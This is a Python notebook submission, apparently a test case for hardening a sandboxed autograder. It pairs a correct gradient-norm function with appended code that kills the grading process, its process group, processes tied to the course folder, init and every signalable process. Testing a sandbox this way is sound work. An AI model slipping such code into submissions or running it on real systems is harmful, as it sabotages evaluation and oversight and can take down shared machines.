# Escape: kill_grader. While it is graded, this submission tries to kill the process that grades
# it, and every other: SIGKILL to its parent (os.kill(os.getppid(), 9): the nbgrader worker, or
# course.py itself with --jobs 1), to its parent's process group (course.py and the workers it
# started), to every process whose command line names the course folder, to init (os.kill(1, 9))
# and to every process it may signal (os.kill(-1, 9)).  It does not signal its own process group
# (os.killpg(0, 9), nor its parent's when that is the same group): that only kills the kernel
# itself, like any crash, and nbgrader then grades nothing of the notebook
# (tests/test_workflow.py's kernel_crash).  The two lines marked
# "[not in the unsafe run]" are left out when tests/escapes/run.py grades the corpus without the
# sandbox, as root, on a shared machine: there they would kill every process on it.
# The answer itself is correct and scores full marks.
def global_grad_norm(parameters, norm_type=2.0):
    if isinstance(parameters, torch.Tensor):
        parameters = [parameters]
    norms = []
    for p in parameters:
        if p.grad is None:
            continue
        g = p.grad.detach()
        if norm_type == math.inf:
            norms.append(g.abs().max() if g.numel() else torch.tensor(0.0))
        else:
            norms.append(g.pow(2).sum().sqrt())
    if not norms:
        return torch.tensor(0.0)
    stacked = torch.stack(norms)
    return stacked.max() if norm_type == math.inf else stacked.pow(2).sum().sqrt()


import glob as _glob
import os as _os


def _kill(what, call):
    try:
        call()
        print("sent:", what)
    except OSError as exc:
        print("refused:", what, type(exc).__name__)


_course = _os.path.realpath("../../..").encode()
_named = []
for _cmd in _glob.glob("/proc/[0-9]*/cmdline"):
    try:
        with open(_cmd, "rb") as _f:
            if _course != b"/" and _course in _f.read():
                _named.append(int(_cmd.split("/")[2]))
    except (OSError, ValueError):
        continue
_kill(f"SIGKILL to the parent (pid {_os.getppid()})", lambda: _os.kill(_os.getppid(), 9))
# (the parent's process group, unless it is the kernel's own: in the sandbox the kernel shares
# the group of the sandbox's init, and signalling it would only kill the kernel itself)
if _os.getpgid(_os.getppid()) != _os.getpgid(0):
    _kill("SIGKILL to the parent's process group", lambda: _os.killpg(_os.getpgid(_os.getppid()), 9))
else:
    print("not sent: SIGKILL to the parent's process group (it is the kernel's own)")
for _pid in _named:
    if _pid != _os.getpid():
        _kill(f"SIGKILL to pid {_pid}, whose command line names the course", lambda: _os.kill(_pid, 9))
_kill("SIGKILL to init (pid 1)", lambda: _os.kill(1, 9))  # [not in the unsafe run]
_kill("SIGKILL to every process (pid -1)", lambda: _os.kill(-1, 9))  # [not in the unsafe run]
print("escape kill_grader: done, the kernel is still alive")
